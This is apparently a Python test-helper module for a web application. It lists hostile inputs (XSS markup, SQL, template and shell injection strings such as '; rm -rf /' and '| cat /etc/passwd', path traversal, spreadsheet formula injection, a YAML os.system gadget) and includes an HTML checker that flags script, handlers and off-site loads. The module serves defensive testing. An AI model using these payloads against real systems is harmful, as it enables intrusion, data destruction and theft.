"""The worst that somebody types, and what of a page would run, load from elsewhere, or lead astray."""

import re
from html.parser import HTMLParser

ELSEWHERE = "elsewhere.example"
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//elsewhere.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "'\"><img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>here</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">here</mi></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//elsewhere.example/>",
    '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import'//elsewhere.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<form action=//elsewhere.example/><button>OK</button></form>",
    "<button formaction=javascript:alert(1)>OK</button>",
    "<a href=javascript:alert(1)>here</a>",
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</svg></li></main></body></html><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0',
    '" autofocus onfocus=alert(1) x="',
    'x" hx-get="//elsewhere.example/" hx-trigger="load',
    "<div hx-get=//elsewhere.example/ hx-trigger=load></div>",
    "<div hx-on:click=alert(1)>here</div>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;b&amp;gt; &notit; &#0; &#xD800; &#x110000;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
WORDS_OF_MACHINES = (
    *(
        "{{ 7 * 7 }}",
        "{{ config.SECRET_KEY }}",
        "{% for x in y %}{{ x }}{% endfor %}",
        "{{ ''.__class__.__mro__ }}",
    ),
    *("${7*7}", "#{7*7}", "<%= 7 * 7 %>", "%s%s%n", "%(password)s", "{0.__class__}", "{title}", "{", "}", "%"),
    *("$(reboot)", "`reboot`", "; rm -rf /", "| cat /etc/passwd", "&& reboot", "-rf", "--help"),
    *("' OR 1=1 --", "'; DROP TABLE workshop; --", '" OR ""="', "1; SELECT pg_sleep(10)", "%' OR x LIKE '%", "a\\'b"),
    *(
        "../../../../etc/passwd",
        "..\\windows\\win.ini",
        "file:///etc/passwd",
        "NUL",
        "CON.txt",
        "C:\\",
        "/dev/zero",
    ),
    *("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//elsewhere.example/")', "\uff1d1+1"),
    *("# Title", "**bold** _not_ `code`", "[here](javascript:alert(1))", "![x](//elsewhere.example/x.png)"),
    *("| a | b |\n|---|---|", "---\ntitle: x\n---", "```", "> quoted", "1. one", "- [ ] to do", "\\", "<!--"),
    *("!!python/object/apply:os.system ['reboot']", "*alias", "&anchor", "[]", "{}", "<>", "&", "'", '"', "''"),
    *("null", "undefined", "NaN", "None", "true", "0", "-0", "1e309", "0x10", "\u0661\u0662\u0663", "[object Object]"),
    *(
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "id: 9\ndata: x\n\n",
        "event: bye\nretry: 1",
        "data: x",
    ),
    *("a\r\nSet-Cookie: a=b", "Content-Length: 0", "csrf_token", "]]>", "-->", "*/", "//", "?x=1&y=2#z", "a,b;c\td"),
)
LETTERS = (
    *("\u202eright to left\u202c", "\u2066isolated\u2069", "\u05e9\u05dc\u05d5\u05dd \u05e2\u05dc\u05d9\u05db\u05dd"),
    *("\u0645\u0631\u062d\u0628\u0627 bonjour", "e" + "\u0301" * 60, "a\u0308\u0323", "\u0e01\u0e4a\u0e4a\u0e4a\u0e4a"),
    *(
        "👩🏽‍👩🏽‍👧🏽‍👦🏽 👩🏽‍🚀",
        "🇫🇷🇪🇺🏴",
        "🫠" * 30,
        "\ufe0f\u20e3",
        "\ufdfa" * 20,
        "\U0001242b" * 8,
        "\U0001d56c\U0001d591\U0001d594",
    ),
    *("田中さんにあげて下さい", "사회과학원", "ภาษาไทย" * 8, "ÅÍÎÏ˝ÓÔÒÚÆ☃", "Ω≈ç√∫µ≤", "ﬁne ﬂow", "œuvre « là »"),
    *("\u00ad" * 40 + "soft", "a\u200bb\u2060c", "\ufeffmark", "one\u2028two\u2029three", "\u1680wide\u2003spaces"),
    *("\x1b[31mred", "bell\x07", "next\x85line", "\ufffd", "tab\tand\x0bmore"),
    *("W" * 240, "a" * 280, "https://elsewhere.example/" + "x" * 200, "-" * 200, "." * 200, "x\n" * 60, "一" * 200),
)
TEXTS = (*MARKUP, *WORDS_OF_MACHINES, *LETTERS)

_NEVER = {"style", "iframe", "object", "embed", "base", "math", "marquee", "frame", "applet", "portal"}
_ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "ping", "manifest"}
_ADDRESSES |= {f"hx-{method}" for method in ("get", "post", "put", "patch", "delete", "sse:connect", "sse")}
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\t\n\r-]*):", re.IGNORECASE)
_DATA = re.compile(r"data:(image/(png|jpeg|webp|svg\+xml)|text/css|font/woff2)[;,]")


class _Page(HTMLParser):
    """A page as a browser takes it apart: what runs or leads astray, and all that is said."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.faults, self.text, self._script = [], [], False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "meta" and "http-equiv" in attributes):
            self.faults.append(f"<{tag}>")
        self._script = tag == "script" and "json" not in attributes.get("type", "")
        if self._script and not attributes.get("src", "/static/").startswith("/static/"):
            self.faults.append(f"<script src={attributes['src']}>")
        for name, value in attributes.items():
            runs = name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}
            if runs or (name.removeprefix("xlink:") in _ADDRESSES and _leads_astray(value)):
                self.faults.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, _tag):
        self._script = False

    def handle_data(self, data):
        if self._script and data.strip():
            self.faults.append(f"<script>{data}")
        self.text.append(data)


def said(page):
    """Return all the text of a page, with single spaces."""
    return squeezed("".join(_Page(page).text))


def squeezed(text):
    return " ".join(text.split())


def runs(page):
    """List what of a page would run, load from elsewhere, or lead astray; nothing of ours does."""
    return _Page(page).faults


def _leads_astray(address):
    scheme = _SCHEME.match(address)
    known = not scheme or scheme[1].lower() in {"http", "https", "mailto"} or bool(_DATA.match(address))
    return ELSEWHERE in address or not known
